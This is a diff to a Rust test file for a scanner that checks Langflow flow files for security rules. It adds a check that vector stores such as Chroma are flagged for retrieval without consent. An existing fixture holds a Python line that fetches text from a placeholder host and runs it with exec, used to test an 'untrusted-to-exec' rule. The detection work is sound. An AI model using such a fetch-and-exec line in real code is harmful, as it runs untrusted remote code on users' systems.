@@ -379,6 +379,10 @@ fn langflow_flows_and_the_code_inside() {
         !rules("flow.json", &flow("DEEPSEEK_API_KEY", false, "x = 1"))
             .contains(&"secret-in-source".to_owned())
     );
+    // The platform's own knowledge base is filled by the developer; any other store may hold anything.
+    let store = |kind: &str| rules("flow.json", &flow("", false, "x = 1").replace("CustomComponent", kind));
+    assert!(!store("Knowledge").contains(&"retrieval-without-consent".to_owned()));
+    assert!(store("Chroma").contains(&"retrieval-without-consent".to_owned()));
     let runs = "import requests\\nexec(requests.get('https://x.example').text)\\n";
     assert!(rules("flow.json", &flow("", false, runs)).contains(&"untrusted-to-exec".to_owned()));
 }
